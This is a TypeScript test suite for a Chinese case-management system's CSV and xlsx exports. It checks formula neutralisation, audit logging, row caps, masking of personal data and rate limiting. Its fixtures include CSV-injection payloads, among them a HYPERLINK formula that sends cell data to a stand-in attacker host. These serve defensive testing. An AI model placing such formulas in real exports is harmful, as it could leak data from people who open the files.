/**
 * K-09, I-04 exports (issue 9 items 3–4; issue 10 item 4): CSV cells neutralised against formulas by a
 * maintained writer, a row cap per request stated in the response, every export audited (who, what,
 * filter, row count) and never cached, heavy reports and exports a few at a time (429 + Retry-After),
 * and every export a Chinese business record: Chinese headers and values, people and units by name,
 * the unit's local time as YYYY-MM-DD HH:mm — read back from the xlsx with exceljs.
 */
import { auditRepository } from "@ccms/db";
import ExcelJS from "exceljs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { heavyLimiter } from "../../src/modules/control/data-export.js";
import { ENGINE, type TestEnv, createTestEnv } from "../helpers.js";

async function readXlsx(payload: Buffer): Promise<string[][]> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(payload as unknown as ArrayBuffer);
  const rows: string[][] = [];
  wb.worksheets[0]!.eachRow((row) => {
    const cells: string[] = [];
    row.eachCell({ includeEmpty: true }, (c) => cells.push(c.value === null || c.value === undefined ? "" : String(c.value)));
    rows.push(cells);
  });
  return rows;
}

const LOCAL_TIME = /^\d{4}-\d{2}-\d{2} \d{2}:\d{2}$/;

describe(`K-09 I-04 exports (${ENGINE})`, () => {
  let env: TestEnv;
  let th: string;
  const get = async (as: string, url: string) => env.app.inject({ method: "GET", url, headers: { authorization: `Bearer ${await env.token(as)}` } });

  beforeAll(async () => {
    env = await createTestEnv();
    th = env.demo.counterIds[0]!;
    // formula payloads typed by a customer-facing clerk (issue 9: the case CSV wrote them as they were)
    for (const summary of ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+1+2", "-3+4", "@SUM(A1:A9)"]) {
      const r = await env.call("teller1", { method: "POST", url: "/api/v1/cases", payload: { kind: "complaint", orgUnitId: th, channel: "counter", summary, customer: { name: "周八", phone: "13600006666" } } });
      expect(r.status).toBe(201);
    }
  });
  afterAll(async () => env?.close());

  it("K-09 the case CSV neutralises cells starting with = + - @ (csv-stringify escape_formulas) and has Chinese headers", async () => {
    const res = await get("manager", "/api/v1/cases/export?format=csv");
    expect(res.statusCode).toBe(200);
    expect(res.headers["content-type"]).toContain("text/csv");
    const body = res.body.replace(/^\uFEFF/, "");
    const header = body.split("\r\n")[0]!;
    expect(header.split(",").slice(0, 4)).toEqual(["案件编号", "类型", "渠道", "状态"]);
    expect(body).toContain(`"'=HYPERLINK(`);
    expect(body).toContain(",'+1+2,");
    expect(body).toContain(",'-3+4,");
    expect(body).toContain(",'@SUM(A1:A9),");
    for (const line of body.split("\r\n").slice(1)) {
      for (const cell of line.split(",")) expect(/^[=+\-@]/.test(cell), cell).toBe(false);
    }
    expect(body).toContain("投诉");
    expect(body).toContain("柜面");
    expect(body).toContain("天河客户服务中心");
    expect(body).toContain("柜员 王芳"); // first responder by name
    expect(body).not.toContain("13600006666");
  });

  it("I-04 the case xlsx reads back with Chinese headers, values in words, names and the unit's local time", async () => {
    const res = await get("manager", "/api/v1/cases/export?format=xlsx");
    expect(res.statusCode).toBe(200);
    expect(res.headers["content-type"]).toContain("spreadsheetml");
    expect(String(res.headers["content-disposition"])).toContain(encodeURIComponent("案件清单"));
    const rows = await readXlsx(res.rawPayload);
    const header = rows[0]!;
    expect(header).toEqual(expect.arrayContaining(["案件编号", "类型", "渠道", "状态", "承办单位", "收到时间", "客户", "联系电话", "摘要", "首问责任人", "答复期限"]));
    const col = (name: string) => header.indexOf(name);
    const mine = rows.slice(1).find((r) => r[col("摘要")] === "+1+2")!;
    expect(mine).toBeTruthy();
    expect(mine[col("类型")]).toBe("投诉");
    expect(mine[col("渠道")]).toBe("柜面");
    expect(mine[col("状态")]).toBe("已收到");
    expect(mine[col("承办单位")]).toBe("天河客户服务中心");
    expect(mine[col("首问责任人")]).toBe("柜员 王芳");
    expect(mine[col("客户")]).toBe("周*");
    expect(mine[col("联系电话")]).toBe("136****6666");
    // created at 02:00 UTC = 10:00 in Asia/Shanghai
    expect(mine[col("收到时间")]).toBe("2026-03-10 10:00");
    expect(mine[col("答复期限")]).toMatch(LOCAL_TIME);
    for (const r of rows.slice(1)) expect(r[col("收到时间")]).toMatch(LOCAL_TIME);
  });

  it("K-09 every export is audited (who, what, filter, row count) and not cached", async () => {
    const before = (await auditRepository.list(env.database.db, { actions: ["case.exported"], limit: 100 })).length;
    const res = await get("manager", "/api/v1/cases/export?format=csv&kind=complaint");
    expect(res.statusCode).toBe(200);
    expect(res.headers["cache-control"]).toBe("no-store");
    const after = await auditRepository.list(env.database.db, { actions: ["case.exported"], limit: 100 });
    expect(after.length).toBe(before + 1);
    expect(after[0]!.actor_name).toBe("manager");
    const d = JSON.parse(after[0]!.details) as { filter: { kind: string }; rows: number; format: string; truncated: boolean };
    expect(d).toMatchObject({ filter: { kind: "complaint" }, format: "csv", truncated: false });
    expect(d.rows).toBe(Number(res.headers["x-row-count"]));
    // registers too
    const reg = await get("manager", `/api/v1/daily-ops/lost-property/export.xlsx?counterId=${th}`);
    expect(reg.statusCode).toBe(200);
    expect(reg.headers["cache-control"]).toBe("no-store");
    const lp = await auditRepository.list(env.database.db, { actions: ["data.exported"], entityId: "lost-property", limit: 5 });
    expect(lp).toHaveLength(1);
  });

  it("K-09 a row cap per request is stated in the response and the audit entry", async () => {
    const saved = env.ctx.config.exportRowCap;
    env.ctx.config.exportRowCap = 2;
    try {
      const res = await get("manager", "/api/v1/cases/export?format=xlsx");
      expect(res.statusCode).toBe(200);
      expect(res.headers["x-row-cap"]).toBe("2");
      expect(res.headers["x-row-count"]).toBe("2");
      expect(res.headers["x-truncated"]).toBe("true");
      expect(await readXlsx(res.rawPayload)).toHaveLength(3); // header + 2
      const last = (await auditRepository.list(env.database.db, { actions: ["case.exported"], limit: 1 }))[0]!;
      expect(JSON.parse(last.details)).toMatchObject({ rows: 2, truncated: true, rowCap: 2 });
    } finally {
      env.ctx.config.exportRowCap = saved;
    }
    const full = await get("manager", "/api/v1/cases/export?format=csv");
    expect(full.headers["x-truncated"]).toBe("false");
  });

  it("K-09 heavy reports and exports run a few at a time per user and per server: 429 with Retry-After past that", async () => {
    const limiter = heavyLimiter(env.ctx);
    const me = await env.call("manager", { method: "GET", url: "/api/v1/auth/me" });
    const managerId = (me.body.user?.id ?? me.body.id) as string;
    expect(managerId).toBeTruthy();
    const held = [limiter.tryAcquire(managerId)!, limiter.tryAcquire(managerId)!];
    expect(held.every(Boolean)).toBe(true);
    const busy = await get("manager", "/api/v1/cases/report?from=2026-03-01&to=2026-03-31");
    expect(busy.statusCode).toBe(429);
    expect(busy.headers["retry-after"]).toBeDefined();
    expect(busy.json().error.code).toBe("too_many_heavy_requests");
    expect((await get("manager", "/api/v1/cases/export?format=csv")).statusCode).toBe(429);
    // another user still gets a slot while the server has room
    expect((await get("hqadmin", "/api/v1/cases/report?from=2026-03-01&to=2026-03-31")).statusCode).toBe(200);
    for (const release of held) release();
    expect((await get("manager", "/api/v1/cases/report?from=2026-03-01&to=2026-03-31")).statusCode).toBe(200);
    // the server as a whole: every slot taken by others → 429 for everyone
    const others = Array.from({ length: limiter.maxTotal }, (_, i) => limiter.tryAcquire(`someone-${i}`)!);
    expect((await get("hqadmin", "/api/v1/cases/report?from=2026-03-01&to=2026-03-31")).statusCode).toBe(429);
    for (const release of others) release();
    expect(limiter.running).toBe(0);
  });

  it("K-09 a finished export stream releases its slot (no leak across many exports)", async () => {
    for (let i = 0; i < 6; i++) expect((await get("manager", "/api/v1/cases/export?format=xlsx")).statusCode).toBe(200);
    await new Promise((r) => setTimeout(r, 50));
    expect(heavyLimiter(env.ctx).running).toBe(0);
  });

  it("I-04 register exports are Chinese records: lost property in words and local time", async () => {
    const r = await env.call("guide", { method: "POST", url: "/api/v1/daily-ops/lost-property", payload: { counterId: th, description: "黑色雨伞" } });
    expect(r.status).toBe(201);
    const res = await get("manager", `/api/v1/daily-ops/lost-property/export.xlsx?counterId=${th}`);
    const rows = await readXlsx(res.rawPayload);
    expect(rows[0]).toEqual(expect.arrayContaining(["拾得时间", "物品描述", "状态"]));
    const umbrella = rows.find((x) => x.includes("黑色雨伞"))!;
    expect(umbrella).toContain("保管中");
    expect(umbrella[rows[0]!.indexOf("拾得时间")]).toMatch(LOCAL_TIME);
  });

  it("K-09 the audit log exports for auditors in words and local time, and the export is itself audited", async () => {
    const res = await get("auditor", "/api/v1/audit/export?format=xlsx");
    expect(res.statusCode).toBe(200);
    const rows = await readXlsx(res.rawPayload);
    expect(rows[0]!.slice(0, 8)).toEqual(["序号", "时间", "操作人", "单位", "操作", "对象", "对象编号", "详细内容"]);
    const col = (n: string) => rows[0]!.indexOf(n);
    const exported = rows.find((r) => r[col("操作")] === "导出案件")!;
    expect(exported).toBeTruthy();
    expect(exported[col("操作人")]).toBe("柜面主管 陈敏");
    expect(exported[col("单位")]).toBe("天河客户服务中心");
    expect(exported[col("时间")]).toMatch(LOCAL_TIME);
    for (const r of rows.slice(1)) expect(r[col("详细内容")]).not.toBe("null");
    const csv = await get("auditor", "/api/v1/audit/export?format=csv&actions=case.exported");
    expect(csv.statusCode).toBe(200);
    expect(csv.body.replace(/^\uFEFF/, "").split("\r\n")[0]).toContain("操作人");
    const audited = await auditRepository.list(env.database.db, { actions: ["data.exported"], entityId: "audit", limit: 5 });
    expect(audited).toHaveLength(2);
    expect(audited[0]!.actor_name).toBe("auditor");
  });
});
